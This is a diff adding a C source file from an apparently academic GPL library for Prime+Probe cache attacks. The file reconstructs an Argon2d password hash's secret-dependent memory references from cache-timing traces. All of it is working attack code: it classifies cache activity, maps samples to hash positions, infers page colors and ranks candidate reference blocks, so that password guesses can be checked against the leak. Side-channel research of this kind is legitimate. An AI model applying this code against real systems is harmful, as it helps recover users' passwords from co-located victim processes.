@@ -0,0 +1,528 @@
+/*
+ * This file is part of the CacheSC library (https://github.com/Miro-H/CacheSC),
+ * which implements Prime+Probe attacks on virtually and physically indexed
+ * caches.
+ *
+ * Copyright (C) 2020  Miro Haller
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ *
+ * Contact: miro.haller@alumni.ethz.ch
+ *
+ * Short description of this file:
+ * This file implements the reconstruction of Argon2d reference blocks from
+ * Prime+Probe traces.
+ */
+
+#include "argon2_analysis.h"
+
+#include <math.h>
+#include <stdio.h>
+#include <string.h>
+
+// local functions
+uint64_t get_known_colors(argon2_recon *r, const argon2_sample *s);
+void get_activity_llrs(argon2_recon *r, double *l_active, double *l_inactive);
+void estimate_false_rates(argon2_recon *r, const argon2_sample *samples,
+    uint64_t cnt, bool exclude_known);
+void add_block_evidence(argon2_recon *r, double *score, uint32_t block,
+    uint64_t active, const double *l_active, const double *l_inactive);
+void compute_argon2_posterior(argon2_recon *r, uint64_t pos, const double *sqrts);
+
+
+/*
+ * Prepare the reconstruction of one Argon2d hash with a single lane of
+ * `blocks` 1 KiB blocks and `passes` passes, observed through `colors`
+ * monitored sets.
+ */
+argon2_recon *prepare_argon2_recon(uint32_t blocks, uint32_t passes,
+    uint32_t colors)
+{
+    argon2_recon *r;
+
+    assert(blocks % (ARGON2_SYNC_POINTS * ARGON2_BLOCKS_PER_PAGE) == 0);
+    assert(colors <= ARGON2_MAX_COLORS && colors % ARGON2_BLOCKS_PER_PAGE == 0);
+    assert(passes > 0);
+
+    r = (argon2_recon *) calloc(1, sizeof(argon2_recon));
+    assert(r);
+
+    r->blocks       = blocks;
+    r->passes       = passes;
+    r->seg_len      = blocks / ARGON2_SYNC_POINTS;
+    r->colors       = colors;
+    r->positions    = (uint64_t) passes * blocks;
+
+    r->block_color  = (uint8_t *) calloc(blocks, sizeof(uint8_t));
+    r->llr          = (float *) calloc(r->positions * colors, sizeof(float));
+    r->coverage     = (uint16_t *) calloc(r->positions, sizeof(uint16_t));
+    r->ref_color    = (uint8_t *) calloc(r->positions, sizeof(uint8_t));
+    r->confidence   = (float *) calloc(r->positions, sizeof(float));
+    r->cand         = (uint32_t *) malloc(r->positions * ARGON2_CANDIDATES
+                                          * sizeof(uint32_t));
+    r->cand_prob    = (float *) calloc(r->positions * ARGON2_CANDIDATES,
+                                       sizeof(float));
+    assert(r->block_color && r->llr && r->coverage && r->ref_color
+           && r->confidence && r->cand && r->cand_prob);
+
+    return r;
+}
+
+void release_argon2_recon(argon2_recon *r) {
+    free(r->block_color);
+    free(r->llr);
+    free(r->coverage);
+    free(r->ref_color);
+    free(r->confidence);
+    free(r->cand);
+    free(r->cand_prob);
+    free(r);
+}
+
+/*
+ * Classify the monitored sets of `cnt` samples as active or not. `res` holds
+ * either one measurement per color or one per L2 set (full cache attack), in
+ * which case the monitored sets are picked. A set is active if its
+ * measurement exceeds its median over all samples by ARGON2_ACTIVE_MADS
+ * median absolute deviations.
+ */
+void get_argon2_activity(uint32_t colors, const time_type *res,
+    uint32_t msrmts_per_sample, uint64_t cnt, argon2_sample *samples)
+{
+    uint32_t c, set;
+    uint64_t i;
+    time_type median, mad, threshold;
+    time_type *vals;
+
+    assert(msrmts_per_sample == colors
+           || msrmts_per_sample == colors * ARGON2_SETS_PER_BLOCK);
+    if (cnt == 0)
+        return;
+
+    vals = (time_type *) malloc(cnt * sizeof(time_type));
+    assert(vals);
+
+    for (i = 0; i < cnt; ++i)
+        samples[i].active = 0;
+
+    for (c = 0; c < colors; ++c) {
+        set = (msrmts_per_sample == colors)
+              ? c : c * ARGON2_SETS_PER_BLOCK + ARGON2_MONITORED_SET;
+
+        for (i = 0; i < cnt; ++i)
+            vals[i] = res[i * msrmts_per_sample + set];
+        qsort(vals, cnt, sizeof(time_type), cmp_uint32);
+        median = vals[cnt / 2];
+
+        for (i = 0; i < cnt; ++i) {
+            vals[i] = res[i * msrmts_per_sample + set];
+            vals[i] = (vals[i] > median) ? vals[i] - median : median - vals[i];
+        }
+        qsort(vals, cnt, sizeof(time_type), cmp_uint32);
+        mad = (vals[cnt / 2] > 0) ? vals[cnt / 2] : 1;
+        threshold = median + ARGON2_ACTIVE_MADS * mad;
+
+        for (i = 0; i < cnt; ++i) {
+            if (res[i * msrmts_per_sample + set] > threshold)
+                samples[i].active |= 1ULL << c;
+        }
+    }
+
+    free(vals);
+}
+
+/*
+ * Place the samples on the computed blocks of the hash between the victim's
+ * markers, assuming that all blocks take equally long.
+ */
+void map_argon2_samples(argon2_recon *r, argon2_sample *samples, uint64_t cnt,
+    uint64_t hash_start, uint64_t hash_stop)
+{
+    uint64_t i;
+    double first, last;
+    double pos_per_cycle = (double) r->positions / (hash_stop - hash_start);
+
+    assert(hash_stop > hash_start);
+
+    for (i = 0; i < cnt; ++i) {
+        samples[i].first_pos = 1;
+        samples[i].last_pos  = 0;
+
+        if (samples[i].stop <= hash_start || samples[i].start >= hash_stop)
+            continue;
+
+        first = (samples[i].start > hash_start)
+                ? (samples[i].start - hash_start) * pos_per_cycle : 0;
+        last  = (samples[i].stop - hash_start) * pos_per_cycle;
+
+        samples[i].first_pos = (uint64_t) first;
+        samples[i].last_pos  = fmin(last, r->positions - 1);
+    }
+}
+
+/*
+ * Learn the color of every block from the sequential accesses: block b is
+ * written at the positions computing b and read at the next ones. All
+ * blocks of a page share the page's unknown frame color, the candidate with
+ * the highest log-likelihood is chosen.
+ */
+void learn_argon2_block_colors(argon2_recon *r, const argon2_sample *samples,
+    uint64_t cnt)
+{
+    uint32_t block, page, f, best;
+    uint32_t frame_colors = r->colors / ARGON2_BLOCKS_PER_PAGE;
+    uint32_t pages = r->blocks / ARGON2_BLOCKS_PER_PAGE;
+    uint64_t i, p;
+    double l_active[ARGON2_MAX_COLORS], l_inactive[ARGON2_MAX_COLORS];
+    double *score;
+
+    score = (double *) calloc((uint64_t) pages * frame_colors, sizeof(double));
+    assert(score);
+
+    estimate_false_rates(r, samples, cnt, false);
+    get_activity_llrs(r, l_active, l_inactive);
+
+    for (i = 0; i < cnt; ++i) {
+        for (p = samples[i].first_pos; p <= samples[i].last_pos; ++p) {
+            block = p % r->blocks;
+            add_block_evidence(r, score, block, samples[i].active,
+                               l_active, l_inactive);
+            if (p > 0)
+                add_block_evidence(r, score, (p - 1) % r->blocks,
+                                   samples[i].active, l_active, l_inactive);
+        }
+    }
+
+    for (page = 0; page < pages; ++page) {
+        best = 0;
+        for (f = 1; f < frame_colors; ++f) {
+            if (score[page * frame_colors + f] > score[page * frame_colors + best])
+                best = f;
+        }
+
+        for (block = 0; block < ARGON2_BLOCKS_PER_PAGE; ++block) {
+            r->block_color[page * ARGON2_BLOCKS_PER_PAGE + block] =
+                best * ARGON2_BLOCKS_PER_PAGE + block;
+        }
+    }
+
+    free(score);
+}
+
+/*
+ * Reconstruct the reference blocks of all positions. Activity of colors that
+ * the sequential accesses of a sample explain carries no information about
+ * its references and is skipped.
+ */
+void reconstruct_argon2_refs(argon2_recon *r, const argon2_sample *samples,
+    uint64_t cnt)
+{
+    uint32_t c;
+    uint64_t i, p, known;
+    double l_active[ARGON2_MAX_COLORS], l_inactive[ARGON2_MAX_COLORS];
+    double sqrts[ARGON2_PRIOR_WINDOW + 1];
+    float *llr;
+
+    memset(r->llr, 0, r->positions * r->colors * sizeof(float));
+    memset(r->coverage, 0, r->positions * sizeof(uint16_t));
+
+    estimate_false_rates(r, samples, cnt, true);
+    get_activity_llrs(r, l_active, l_inactive);
+
+    for (i = 0; i < cnt; ++i) {
+        if (samples[i].first_pos > samples[i].last_pos)
+            continue;
+
+        known = get_known_colors(r, samples + i);
+        for (p = samples[i].first_pos; p <= samples[i].last_pos; ++p) {
+            llr = r->llr + p * r->colors;
+            for (c = 0; c < r->colors; ++c) {
+                if ((known >> c) & 1)
+                    continue;
+                llr[c] += ((samples[i].active >> c) & 1) ? l_active[c]
+                                                         : l_inactive[c];
+            }
+            if (r->coverage[p] < UINT16_MAX)
+                ++r->coverage[p];
+        }
+    }
+
+    for (i = 0; i <= ARGON2_PRIOR_WINDOW; ++i)
+        sqrts[i] = sqrt(i);
+
+    for (p = 0; p < r->positions; ++p)
+        compute_argon2_posterior(r, p, sqrts);
+}
+
+/*
+ * Store the first block and the size of the reference area of a position as
+ * defined by Argon2's index function for a single lane.
+ * Returns false if the position does not reference a block.
+ */
+bool get_argon2_ref_area(argon2_recon *r, uint64_t pos, uint32_t *start,
+    uint32_t *size)
+{
+    uint32_t pass  = pos / r->blocks;
+    uint32_t idx   = pos % r->blocks;
+    uint32_t slice = idx / r->seg_len;
+
+    if (pass == 0) {
+        if (idx < 2)
+            return false;
+        *start  = 0;
+        *size   = idx - 1;
+    }
+    else {
+        *start  = (slice == ARGON2_SYNC_POINTS - 1) ? 0 : (slice + 1) * r->seg_len;
+        *size   = r->blocks - r->seg_len + idx % r->seg_len - 1;
+    }
+
+    return true;
+}
+
+/*
+ * Returns the block that a position references for the lower 32 bits of the
+ * first word of the previous block, e.g. to check a password candidate
+ * against the reconstruction.
+ */
+uint32_t get_argon2_ref_block(argon2_recon *r, uint64_t pos, uint32_t pseudo_rand) {
+    uint32_t start, size;
+    uint64_t x, rel;
+
+    if (!get_argon2_ref_area(r, pos, &start, &size))
+        return UINT32_MAX;
+
+    x   = ((uint64_t) pseudo_rand * pseudo_rand) >> 32;
+    rel = size - 1 - ((size * x) >> 32);
+
+    return (start + rel) % r->blocks;
+}
+
+void print_argon2_recon(argon2_recon *r) {
+    uint32_t pass, slice, confident;
+    uint64_t p, first, ref_cnt;
+    double coverage, confidence;
+
+    printf("argon2_recon = {\n\tblocks: %u,\n\tpasses: %u,\n\tcolors: %u,\n"
+           "\tsegments (pass, slice: coverage, confidence, confident):\n",
+           r->blocks, r->passes, r->colors);
+
+    for (pass = 0; pass < r->passes; ++pass) {
+        for (slice = 0; slice < ARGON2_SYNC_POINTS; ++slice) {
+            first       = (uint64_t) pass * r->blocks + slice * r->seg_len;
+            coverage    = 0;
+            confidence  = 0;
+            confident   = 0;
+            ref_cnt     = 0;
+
+            for (p = first; p < first + r->seg_len; ++p) {
+                coverage += r->coverage[p];
+                if (r->cand[p * ARGON2_CANDIDATES] == UINT32_MAX)
+                    continue;
+                confidence += r->confidence[p];
+                confident  += r->confidence[p] >= ARGON2_CONFIDENT;
+                ++ref_cnt;
+            }
+
+            printf("\t\t%u, %u: %6.2f, %6.4f, %6u / %u\n", pass, slice,
+                   coverage / r->seg_len,
+                   ref_cnt ? confidence / ref_cnt : 0, confident,
+                   (uint32_t) ref_cnt);
+        }
+    }
+    printf("}\n");
+}
+
+/*
+ * Store the reconstruction with one line per position: pass, slice, index in
+ * the segment, reference color and its posterior, and the candidate blocks
+ * with their posteriors.
+ * Returns 0 on success, 1 on failure.
+ */
+int save_argon2_recon(const char *path, argon2_recon *r) {
+    uint32_t i;
+    uint64_t p;
+    FILE *fp = fopen(path, "w");
+    if (!fp)
+        return 1;
+
+    fprintf(fp, "# CacheSC Argon2d reconstruction\n");
+    fprintf(fp, "# blocks = %u, passes = %u, colors = %u\n", r->blocks,
+            r->passes, r->colors);
+    fprintf(fp, "# pass slice index color confidence block:probability...\n");
+
+    for (p = 0; p < r->positions; ++p) {
+        if (r->cand[p * ARGON2_CANDIDATES] == UINT32_MAX)
+            continue;
+
+        fprintf(fp, "%lu %lu %lu %u %.4f", p / r->blocks,
+                (p % r->blocks) / r->seg_len, (p % r->blocks) % r->seg_len,
+                r->ref_color[p], r->confidence[p]);
+        for (i = 0; i < ARGON2_CANDIDATES; ++i) {
+            if (r->cand[p * ARGON2_CANDIDATES + i] == UINT32_MAX)
+                break;
+            fprintf(fp, " %u:%.4g", r->cand[p * ARGON2_CANDIDATES + i],
+                    r->cand_prob[p * ARGON2_CANDIDATES + i]);
+        }
+        fprintf(fp, "\n");
+    }
+
+    return fclose(fp) != 0;
+}
+
+/*
+ * Colors of the blocks that the covered positions write and read
+ * sequentially
+ */
+uint64_t get_known_colors(argon2_recon *r, const argon2_sample *s) {
+    uint64_t p, known = 0;
+
+    for (p = s->first_pos; p <= s->last_pos; ++p) {
+        known |= 1ULL << r->block_color[p % r->blocks];
+        if (p > 0)
+            known |= 1ULL << r->block_color[(p - 1) % r->blocks];
+    }
+
+    return known;
+}
+
+void get_activity_llrs(argon2_recon *r, double *l_active, double *l_inactive) {
+    uint32_t c;
+
+    for (c = 0; c < r->colors; ++c) {
+        l_active[c]   = log(ARGON2_DETECT_PROB / r->false_rate[c]);
+        l_inactive[c] = log((1 - ARGON2_DETECT_PROB) / (1 - r->false_rate[c]));
+    }
+}
+
+/*
+ * Estimate the rate of active samples without an access per color as the
+ * rate of active samples within the hash, optionally only counting samples
+ * whose sequential accesses do not explain the color.
+ */
+void estimate_false_rates(argon2_recon *r, const argon2_sample *samples,
+    uint64_t cnt, bool exclude_known)
+{
+    uint32_t c;
+    uint64_t i, known;
+    uint64_t active[ARGON2_MAX_COLORS] = {0}, total[ARGON2_MAX_COLORS] = {0};
+
+    for (i = 0; i < cnt; ++i) {
+        if (samples[i].first_pos > samples[i].last_pos)
+            continue;
+
+        known = exclude_known ? get_known_colors(r, samples + i) : 0;
+        for (c = 0; c < r->colors; ++c) {
+            if ((known >> c) & 1)
+                continue;
+            active[c] += (samples[i].active >> c) & 1;
+            ++total[c];
+        }
+    }
+
+    for (c = 0; c < r->colors; ++c) {
+        r->false_rate[c] = total[c] ? (double) active[c] / total[c]
+                                    : ARGON2_MIN_FALSE_RATE;
+        r->false_rate[c] = fmin(fmax(r->false_rate[c], ARGON2_MIN_FALSE_RATE),
+                                ARGON2_MAX_FALSE_RATE);
+    }
+}
+
+/*
+ * Add the log-likelihoods of a sample to the frame colors of a block's page
+ */
+void add_block_evidence(argon2_recon *r, double *score, uint32_t block,
+    uint64_t active, const double *l_active, const double *l_inactive)
+{
+    uint32_t f, c;
+    uint32_t frame_colors = r->colors / ARGON2_BLOCKS_PER_PAGE;
+    double *page_score = score + (block / ARGON2_BLOCKS_PER_PAGE) * frame_colors;
+
+    for (f = 0; f < frame_colors; ++f) {
+        c = f * ARGON2_BLOCKS_PER_PAGE + block % ARGON2_BLOCKS_PER_PAGE;
+        page_score[f] += ((active >> c) & 1) ? l_active[c] : l_inactive[c];
+    }
+}
+
+/*
+ * Combine the log-likelihood ratios of a position with the prior of the
+ * index function. The reference distance y from the newest block of the
+ * reference area (size A) has P(y' <= y) = sqrt((y + 1) / A), as the index
+ * function squares a uniform 32 bit value.
+ */
+void compute_argon2_posterior(argon2_recon *r, uint64_t pos, const double *sqrts) {
+    uint32_t c, i, j, start, size, window, block;
+    uint32_t *cand = r->cand + pos * ARGON2_CANDIDATES;
+    float *cand_prob = r->cand_prob + pos * ARGON2_CANDIDATES;
+    const float *llr = r->llr + pos * r->colors;
+    double max_llr, prior_y, weight, norm, inv_sqrt_size;
+    double lik[ARGON2_MAX_COLORS], prior[ARGON2_MAX_COLORS];
+    double cand_weight[ARGON2_CANDIDATES];
+
+    for (i = 0; i < ARGON2_CANDIDATES; ++i) {
+        cand[i]         = UINT32_MAX;
+        cand_prob[i]    = 0;
+        cand_weight[i]  = 0;
+    }
+    r->ref_color[pos]   = 0;
+    r->confidence[pos]  = 0;
+
+    if (!get_argon2_ref_area(r, pos, &start, &size))
+        return;
+
+    max_llr = llr[0];
+    for (c = 1; c < r->colors; ++c)
+        max_llr = fmax(max_llr, llr[c]);
+
+    window          = (size < ARGON2_PRIOR_WINDOW) ? size : ARGON2_PRIOR_WINDOW;
+    inv_sqrt_size   = 1 / sqrt(size);
+    for (c = 0; c < r->colors; ++c) {
+        lik[c]      = exp(llr[c] - max_llr);
+        prior[c]    = (1 - sqrts[window] * inv_sqrt_size) / r->colors;
+    }
+
+    // Newest blocks first, they are the most likely references
+    block = start + size - 1;
+    if (block >= r->blocks)
+        block -= r->blocks;
+
+    for (i = 0; i < window; ++i) {
+        prior_y     = (sqrts[i + 1] - sqrts[i]) * inv_sqrt_size;
+        c           = r->block_color[block];
+        prior[c]   += prior_y;
+        weight      = prior_y * lik[c];
+
+        if (weight > cand_weight[ARGON2_CANDIDATES - 1]) {
+            for (j = ARGON2_CANDIDATES - 1; j > 0 && weight > cand_weight[j - 1]; --j) {
+                cand_weight[j]  = cand_weight[j - 1];
+                cand[j]         = cand[j - 1];
+            }
+            cand_weight[j]  = weight;
+            cand[j]         = block;
+        }
+
+        block = (block == 0) ? r->blocks - 1 : block - 1;
+    }
+
+    norm = 0;
+    for (c = 0; c < r->colors; ++c) {
+        norm += prior[c] * lik[c];
+        if (prior[c] * lik[c] > prior[r->ref_color[pos]] * lik[r->ref_color[pos]])
+            r->ref_color[pos] = c;
+    }
+
+    r->confidence[pos] = prior[r->ref_color[pos]] * lik[r->ref_color[pos]] / norm;
+    for (i = 0; i < ARGON2_CANDIDATES; ++i)
+        cand_prob[i] = cand_weight[i] / norm;
+}